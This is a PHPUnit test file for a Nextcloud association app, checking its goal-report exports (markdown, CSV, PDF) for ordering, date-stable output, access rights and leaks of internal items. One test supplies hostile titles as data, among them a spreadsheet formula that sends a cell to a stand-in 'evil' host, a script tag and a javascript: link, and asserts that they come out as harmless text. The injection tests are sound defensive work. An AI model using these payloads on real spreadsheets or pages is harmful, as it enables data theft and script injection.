<?php

declare(strict_types=1);

// SPDX-FileCopyrightText: 2026 Verband contributors
// SPDX-License-Identifier: AGPL-3.0-or-later

namespace OCA\Verband\Tests\Goal;

use OCA\Verband\Calendar\EventService;
use OCA\Verband\Gliederung\Access;
use OCA\Verband\Goal\EvidenceService;
use OCA\Verband\Goal\Goal;
use OCA\Verband\Goal\GoalMapper;
use OCA\Verband\Goal\GoalPresenter;
use OCA\Verband\Goal\GoalService;
use OCA\Verband\Goal\Programme;
use OCA\Verband\Goal\ProgrammeService;
use OCA\Verband\Goal\Report\Report;
use OCA\Verband\Meeting\MeetingService;
use OCA\Verband\Meeting\Resolution\ResolutionService;
use OCA\Verband\Platform\Input;
use OCA\Verband\Platform\Markdown;
use PHPUnit\Framework\Attributes\DataProvider;

/** The report against the text: by chapter, on a day, the same again later. */
final class ReportTest extends GoalTestCase {
	private const CANARY = 'KANARIENVOGEL';
	private const LINK = ['kind' => 'link', 'label' => 'Bericht', 'url' => 'https://example.org/bericht'];

	public function testItFollowsTheProgrammeWithLinesStatesEvidenceAndFindings(): void {
		[$examination, $concept] = $this->goals($this->programme());
		$this->at('2026-06-03T12:00:00+02:00');
		$this->state($examination, 'examined', ['reason' => 'Geprüft.', 'evidence' => ['kind' => 'finding', 'text' => "Lohnt sich nicht.\n- Zu teuer"]]);
		$this->state($concept, 'done', ['reason' => 'Beschlossen.', 'evidence' => self::LINK]);
		$this->goal(['title' => 'Ohne Programm', 'kind' => 'paper']);

		$text = $this->make('md');
		$order = ['# Rechenschaftsbericht', '**Amtszeit**', 'Stand: 03.06.2026', '3 Ziele', '## Arbeitsprogramm', '### Verkehr – Rad', '#### Zeile 7: Rad prüfen', '> „Wir prüfen Räder.“',
			'**Stand:** **geprüft** – ', '- **Zuletzt dazu gesagt:** 03.06.2026 – Geprüft.', '- **Art:** Prüfauftrag', '- **Zuständige Gliederung:** Name 1',
			'> **Ergebnis der Prüfung, 03.06.2026**', '> Lohnt sich nicht.', '> \\- Zu teuer', '### Bildung', '#### Zeile 12–13, 20: Konzept', 'Link: Bericht (https://example.org/bericht), festgehalten am 03.06.2026',
			'## Außerhalb des Programms', '#### Ohne Programm', '## Haltungen', '#### Zeile 15: Wir sind solidarisch'];
		$at = 0;
		foreach ($order as $part) {
			$found = strpos($text, $part, $at);
			self::assertNotFalse($found, "$part, after what comes before it, in:\n$text");
			$at = $found;
		}
		self::assertStringNotContainsString('**Stand:**', substr($text, (int)strpos($text, '## Haltungen')), 'a stance has no state');
		self::assertStringContainsString('| **umgesetzt** – Alles ist geschafft', $text);
	}

	public function testAKeyDateGivesTheSameBytesWhateverHappensLater(): void {
		[$examination, $concept] = $this->goals($this->programme());
		$this->at('2026-06-03T23:59:59+02:00');
		$this->state($concept, 'begun', ['reason' => 'Entwurf.']);
		$this->get(EvidenceService::class)->add((int)$concept->getId(), new Input(self::LINK));
		$this->at('2026-06-04T00:00:00+02:00');
		$before = array_map(fn (string $form): string => $this->make($form, '2026-06-03'), ['md', 'csv', 'pdf']);
		self::assertStringContainsString('begonnen', $before[0]);
		self::assertStringContainsString('Bericht', $before[1]);

		$this->state($concept, 'dropped', ['reason' => 'Doch nicht.']);
		$this->change($concept, ['title' => 'Anders', 'quote' => 'Anders.', 'lines' => [[1, 2]], 'kind' => 'paper', 'gliederungId' => 21]);
		$evidence = $this->shown($concept)['evidence'][0]['id'];
		$this->get(EvidenceService::class)->remove((int)$concept->getId(), $evidence);
		$this->goal(['title' => 'Später']);
		$this->assertRefused(409, 'in-use', fn () => $this->get(GoalService::class)->delete((int)$examination->getId(), '*', $this->get(GoalPresenter::class)->one(...)));

		self::assertSame($before, array_map(fn (string $form): string => $this->make($form, '2026-06-03'), ['md', 'csv', 'pdf']));
		$now = $this->make('md');
		self::assertStringContainsString('aufgegeben', $now);
		self::assertStringContainsString('#### Zeile 1–2: Anders', $now);
		self::assertStringContainsString('Später', $now);
		self::assertStringNotContainsString('Bericht (https', $now);
		self::assertStringContainsString('Es gab noch keine Ziele.', $this->make('md', '2026-05-31'));
	}

	public function testDaysToComeAndDaysThatAreNone(): void {
		$this->assertRefused(400, 'invalid (at)', fn () => $this->make('md', '2026-06-02'));
		foreach (['2026-02-30', 'gestern', "2026-06-01'"] as $day) {
			$this->assertRefused(400, 'bad-date (at)', fn () => $this->make('md', $day));
		}
		$this->assertRefused(404, 'not-found', fn () => $this->get(Report::class)->make(999, 'md', []));
	}

	public function testWhoMayReadIt(): void {
		$this->goal(['title' => 'Für alle']);
		$own = $this->make('md');
		$this->actAs('member');
		self::assertSame($own, $this->make('md'), 'the same for everybody');
		foreach (['guest', 'admin'] as $uid) {
			$this->actAs($uid);
			$this->assertRefused(404, 'not-found', fn () => $this->make('csv'));
		}
	}

	/** @return iterable<string, array{string, string}> */
	public static function forms(): iterable {
		foreach (['md', 'csv', 'pdf'] as $form) {
			foreach (['lv', 'member'] as $uid) {
				yield "$form for $uid" => [$form, $uid];
			}
		}
	}

	/** @param 'csv'|'md'|'pdf' $form */
	#[DataProvider('forms')]
	public function testWhatIsInternalIsInNoFile(string $form, string $uid): void {
		$goal = $this->goal();
		$meeting = $this->get(MeetingService::class)->create(1, ['kind' => 'presence', 'title' => 'Sitzung', 'start' => '2026-05-20T18:00:00+02:00', 'end' => '2026-05-20T20:00:00+02:00', 'location' => 'Haus'])->id();
		$this->get(ResolutionService::class)->create($meeting, new Input(['title' => self::CANARY, 'text' => self::CANARY, 'internal' => true]));
		$event = $this->get(EventService::class)->create($this->get(Access::class)->viewer(), 1, ['title' => self::CANARY, 'kind' => 'other', 'start' => '2026-05-21T18:00:00+02:00', 'end' => '2026-05-21T19:00:00+02:00', 'status' => 'draft']);
		$add = fn (array $evidence): Goal => $this->get(EvidenceService::class)->add((int)$goal->getId(), new Input($evidence));
		$add(['kind' => 'resolution', 'targetId' => 1]);
		$add(['kind' => 'resolution', 'targetId' => 1, 'label' => self::CANARY]);
		$add(['kind' => 'event', 'targetId' => $event->getId()]);
		$add(['kind' => 'event', 'targetId' => $event->getId(), 'label' => self::CANARY]);
		$add(['kind' => 'minutes', 'targetId' => $meeting]);

		$this->actAs($uid);
		$data = $form === 'pdf' ? $this->pdfText($this->make('pdf')) : $this->make($form);
		self::assertStringNotContainsString(self::CANARY, $data);
		self::assertStringContainsString('Sitzung', $data);
		self::assertStringContainsString('intern', $data);
	}

	public function testHostileWordsStayWords(): void {
		$titles = ['=HYPERLINK("http://evil?"&A1)', '<script>alert(1)</script> &lt;b&gt;', '**fett** [x](javascript:1) # |', "um\u{202E}gekehrt", str_repeat('Länge', 51)];
		foreach ($titles as $title) {
			$this->state($this->goal(['title' => $title, 'quote' => $title]), 'begun', ['reason' => $title]);
		}
		$html = $this->get(Markdown::class)->html($this->make('md'));
		foreach ($titles as $title) {
			self::assertStringContainsString($title, html_entity_decode(strip_tags($html), ENT_QUOTES | ENT_HTML5));
		}
		self::assertStringNotContainsString('<script', $html);
		self::assertStringNotContainsString('<a ', $html);
		self::assertDoesNotMatchRegularExpression('/(^|;)"[=+\-@\t\r]/m', $this->make('csv'));
		$paper = $this->pdfText($this->make('pdf'));
		self::assertStringContainsString('<script>alert(1)</script>', str_replace("\n", ' ', $paper));
	}

	private function programme(): Programme {
		return $this->get(ProgrammeService::class)->create(new Input([
			'title' => 'Arbeitsprogramm', 'numbered' => true,
			'chapters' => array_map(static fn (array $chapter): array => ['title' => $chapter[0], 'bold' => $chapter[1], 'line' => null, 'text' => '', 'anchors' => []], [['Verkehr', true], ['Rad', false], ['Bildung', true]]),
			'goals' => [
				['title' => 'Rad prüfen', 'kind' => 'examination', 'lines' => [[7, 7]], 'quote' => 'Wir prüfen Räder.', 'chapter' => 1],
				['title' => 'Konzept', 'kind' => 'concept', 'lines' => [[12, 13], [20, 20]], 'quote' => 'Wir schreiben ein Konzept.', 'chapter' => 2],
				['title' => 'Wir sind solidarisch', 'kind' => 'stance', 'lines' => [[15, 15]], 'chapter' => 2],
			],
		]));
	}

	/** @return list<Goal> */
	private function goals(Programme $programme): array {
		return $this->get(GoalMapper::class)->ofProgramme((int)$programme->getId());
	}

	/** @param 'csv'|'md'|'pdf' $form */
	private function make(string $form, string $at = ''): string {
		return $this->get(Report::class)->make((int)$this->term->getId(), $form, ['at' => $at])['data'];
	}

	/** What a PDF says: its letters are numbers of a font's glyphs, which here are code points. */
	private function pdfText(string $pdf): string {
		preg_match_all('/stream\r?\n(.*?)\r?\nendstream/s', $pdf, $streams);
		$text = '';
		foreach ($streams[1] as $stream) {
			$page = @gzuncompress($stream);
			if ($page !== false && str_contains($page, ' Tf')) {
				preg_match_all('/\[\((.*?)\)\] TJ/s', $page, $shown);
				$text .= implode("\n", $shown[1]);
			}
		}
		return str_replace("\0", '', (string)preg_replace('/\\\\([()\\\\])/', '$1', $text));
	}
}
